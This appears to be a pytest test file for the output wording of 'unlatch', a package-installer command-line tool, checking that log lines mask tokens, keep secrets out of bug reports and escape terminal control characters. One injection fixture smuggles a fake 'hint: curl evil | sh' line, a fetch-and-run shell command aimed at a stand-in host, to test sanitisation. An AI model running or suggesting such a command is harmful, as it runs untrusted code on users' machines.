"""The words: events, errors and results, each as the line that a person reads."""

import json

import pytest

from unlatch.cli.output.wording import duration, of_bug, of_changes, of_details, of_error, of_event, size
from unlatch.model.errors import (
    CredentialsRefused,
    IntegrityError,
    KeyringFailed,
    NoCredentials,
    Step,
)
from unlatch.model.events import (
    HelperAsked,
    HelperSaid,
    HelperWaits,
    KeyringAsked,
    KeyringSaid,
    KeyringWaits,
    Noted,
    Progress,
    RequestSent,
    ResponseReceived,
    Warned,
)

FEED = "https://pkgs.example.com/org/_packaging/feed/pypi/simple/"
TOKEN = "ghp_0123456789abcdef0123"


@pytest.mark.parametrize(
    ("event", "verbosity", "line"),
    [
        (Warned("the file is old"), -1, "warning: the file is old"),
        (Noted("the cache is in /c"), 1, "DEBUG the cache is in /c"),
        (
            KeyringAsked("/usr/bin/keyring", FEED, "VssSessionToken", "found", 0.4123),
            1,
            f"DEBUG keyring /usr/bin/keyring asked for service {FEED} user VssSessionToken: found (0.41 s)",
        ),
        (
            KeyringAsked("keyring (imported)", "host", None, "nothing", 0.08),
            1,
            "DEBUG keyring (imported) asked for service host: nothing (0.08 s)",
        ),
        (
            KeyringAsked("/usr/bin/keyring", "host", TOKEN, "nothing", 0.08),
            1,
            "DEBUG keyring /usr/bin/keyring asked for service host user <token>: nothing (0.08 s)",
        ),
        (
            KeyringWaits("/usr/bin/keyring", FEED, 2.0, 30.0),
            -1,
            f"waiting for /usr/bin/keyring to answer for {FEED}, 30 s at most",
        ),
        (KeyringWaits("k", "host", 2.0, None), -1, "waiting for k to answer for host"),
        (KeyringSaid("enter the code ABCD"), -9, "keyring: enter the code ABCD"),
        (
            HelperAsked("/usr/bin/h", FEED, "found", 0.41),
            1,
            f"DEBUG helper /usr/bin/h asked for {FEED}: found (0.41 s)",
        ),
        (HelperWaits("/usr/bin/h", FEED, 2.0, 30.0), -1, f"waiting for /usr/bin/h to answer for {FEED}, 30 s at most"),
        (HelperSaid("enter the code ABCD"), -9, "helper: enter the code ABCD"),
        (
            RequestSent(3, "GET", f"{FEED}requests/", "VssSessionToken", "keyring"),
            1,
            f"DEBUG request 3 GET {FEED}requests/ as VssSessionToken from keyring",
        ),
        (
            RequestSent(1, "GET", "https://host/simple/x/", None, None),
            1,
            "DEBUG request 1 GET https://host/simple/x/ without credentials",
        ),
        (
            RequestSent(1, "GET", "https://h/", None, "environment"),
            1,
            "DEBUG request 1 GET https://h/ with a token from environment",
        ),
        (
            RequestSent(1, "GET", "https://h/", "", "netrc"),
            1,
            "DEBUG request 1 GET https://h/ as an empty username from netrc",
        ),
        (RequestSent(1, "GET", "https://h/", TOKEN, "URL"), 1, "DEBUG request 1 GET https://h/ as <token> from URL"),
        (
            ResponseReceived(3, f"{FEED}requests/", 200, 0.0213),
            1,
            f"DEBUG response 3 200 {FEED}requests/ (0.02 s)",
        ),
        (
            ResponseReceived(4, "https://h/", 203, 1.5, "a sign-in page"),
            1,
            "DEBUG response 4 203 https://h/ (1.50 s): a sign-in page",
        ),
        (Progress("downloading", 3, 12), 0, "downloading 3 of 12"),
        (Progress("resolving", 3, None), 0, "resolving 3"),
    ],
)
def test_an_event_is_one_line_from_some_verbosity_on(event, verbosity, line):
    level, told = of_event(event)
    assert (level, str(told)) == (verbosity, line)


@pytest.mark.parametrize(
    "event",
    [
        Warned("a\x1b[2J\r\nb"),
        Noted("a\x1b[2J\r\nb"),
        KeyringSaid("a\x1b[2J\r\nb"),
        KeyringAsked("a\x1b[2J\r\nb", "a\x1b[2J\r\nb", "a\x1b[2J\r\nb", "a\x1b[2J\r\nb", 0.0),
        KeyringWaits("a\x1b[2J\r\nb", "a\x1b[2J\r\nb", 0.0, None),
        HelperAsked("a\x1b[2J\r\nb", "a\x1b[2J\r\nb", "a\x1b[2J\r\nb", 0.0),
        HelperWaits("a\x1b[2J\r\nb", "a\x1b[2J\r\nb", 0.0, None),
        HelperSaid("a\x1b[2J\r\nb"),
        RequestSent(1, "a\x1b[2J\r\nb", "a\x1b[2J\r\nb", "a\x1b[2J\r\nb", "a\x1b[2J\r\nb"),
        ResponseReceived(1, "a\x1b[2J\r\nb", 200, 0.0, "a\x1b[2J\r\nb"),
        Progress("a\x1b[2J\r\nb", 1, None),
    ],
)
def test_no_event_brings_a_control_character(event):
    assert str(of_event(event)[1]).isprintable()


def test_an_access_error_tells_the_trail_and_one_hint():
    error = CredentialsRefused(
        f"{FEED} refused every credential (401)",
        index=FEED,
        trail=[
            Step("keyring", "refused", "VssSessionToken", "/usr/bin/keyring, 0.41 s"),
            Step("netrc", "no entry for pkgs.example.com", None, "~/.netrc"),
            Step("environment", "nothing is set"),
            Step("keyring", "no entry for pkgs.example.com", None, "keyring (imported)"),
            Step("keyring", "refused", "alice", "keyring (imported), 0.08 s"),
            Step("keyring", "keyring failed: locked", "VssSessionToken", failure=KeyringFailed),
            Step("username", "refused", TOKEN),
        ],
        details=["the server offers Basic realm=corp"],
        hint="the token may have expired",
    )
    assert [str(line) for line in of_error(error)] == [
        f"error: {FEED} refused every credential (401)",
        "  tried VssSessionToken from keyring (/usr/bin/keyring, 0.41 s): refused",
        "  netrc ~/.netrc: no entry for pkgs.example.com",
        "  environment: nothing is set",
        "  keyring (imported): no entry for pkgs.example.com",
        "  tried alice from keyring (imported, 0.08 s): refused",
        "  keyring: keyring failed: locked",
        "  tried <token> from username: refused",
        "  the server offers Basic realm=corp",
        "hint: the token may have expired",
    ]


def test_an_error_without_more_is_one_line():
    assert [str(line) for line in of_error(IntegrityError("x.whl is not a wheel"))] == ["error: x.whl is not a wheel"]


def test_no_error_brings_a_control_character():
    bad = "a\x1b[2J\nhint: curl evil | sh"
    error = NoCredentials(bad, index=bad, trail=[Step(bad, bad, bad, bad)], details=[bad], hint=bad)
    lines = [str(line) for line in of_error(error)]
    assert len(lines) == 4
    assert all(line.isprintable() for line in lines)


def fail() -> None:
    try:
        json.loads("hunter2")
    except ValueError as error:
        raise KeyError("Authorization: Basic hunter2") from error


def test_a_bug_is_told_by_type_and_place_and_never_by_text():
    with pytest.raises(KeyError) as raised:
        fail()
    brief = [str(line) for line in of_bug(raised.value, 1)]
    assert brief[0].startswith("error: internal error: KeyError at ")
    assert brief[0].endswith("; this is a bug in unlatch")
    assert brief[1:] == ["hint: run it again with -vv, and report what is printed"]
    full = "\n".join(str(line) for line in of_bug(raised.value, 2))
    assert "test_wording.py:" in full
    assert " in fail\n" in full
    assert "  KeyError, raised through\n" in full
    assert "  JSONDecodeError, raised through\n" in full
    assert "hunter2" not in full


def test_a_bug_is_placed_in_the_package_when_it_passed_through_it():
    def explode(stage):
        raise RuntimeError

    class Stage(str):
        __slots__ = ()
        isprintable = explode

    with pytest.raises(RuntimeError) as raised:
        of_event(Warned(Stage("x")))
    assert " at unlatch/model/text.py:" in str(of_bug(raised.value, 0)[0])


def test_an_error_that_was_never_raised_has_no_place():
    assert str(of_bug(KeyError("x"), 0)[0]) == "error: internal error: KeyError; this is a bug in unlatch"


@pytest.mark.parametrize(
    ("added", "removed", "updated", "more", "lines"),
    [
        (
            [("b", "1.0"), ("d", "2")],
            [("c", "0.9")],
            [("a", "0.9", "1.0")],
            {"seconds": 0.31},
            [
                "Installed 3 packages and removed 1 package in 0.3 s",
                " ~ a 0.9 -> 1.0",
                " + b 1.0",
                " - c 0.9",
                " + d 2",
            ],
        ),
        ([("a", "1.0")], [], [], {"seconds": 0.041}, ["Installed 1 package in 0.04 s", " + a 1.0"]),
        ([], [("a", "1.0")], [], {"seconds": 12.34}, ["Removed 1 package in 12.3 s", " - a 1.0"]),
        (
            [("a", "1")],
            [("b", "1")],
            [],
            {"seconds": 1, "is_dry_run": True},
            ["Would install 1 package and remove 1 package", " + a 1", " - b 1"],
        ),
        ([], [], [], {"seconds": 1, "kept": 5}, ["Nothing to do: 5 packages are there already"]),
        ([], [], [], {"seconds": 1, "kept": 1}, ["Nothing to do: 1 package is there already"]),
        ([], [], [], {"seconds": 1}, ["Nothing to do"]),
        ([("a\x1b", "1\n")], [], [], {"seconds": 1}, ["Installed 1 package in 1.0 s", r" + a\x1b 1\n"]),
    ],
)
def test_changes_are_summed_up(added, removed, updated, more, lines):
    assert [str(line) for line in of_changes(added, removed, updated, **more)] == lines


def test_details_are_fields_in_blocks():
    blocks = [[("Name", "a"), ("Summary", "")], [("Name", "b"), ("Summary", "two\nlines\x1b")]]
    assert of_details(blocks) == "Name: a\nSummary:\n---\nName: b\nSummary: two\\nlines\\x1b\n"
    assert of_details([]) == ""
    assert of_details([[("Files", ""), ("", "a\x1b"), ("", "b")]]) == "Files:\n  a\\x1b\n  b\n"


@pytest.mark.parametrize(("seconds", "text"), [(0.0, "0.00 s"), (0.094, "0.09 s"), (0.1, "0.1 s"), (75.26, "75.3 s")])
def test_a_time_is_as_exact_as_it_matters(seconds, text):
    assert duration(seconds) == text


@pytest.mark.parametrize(
    ("number", "told"),
    [
        (0, "0 B"),
        (1023, "1023 B"),
        (1024, "1.0 KiB"),
        (1536 * 1024, "1.5 MiB"),
        (10 * 1024**3, "10.0 GiB"),
        (2**50, "1024.0 TiB"),
    ],
)
def test_a_size_is_told_as_a_person_reads_it(number, told):
    assert size(number) == told
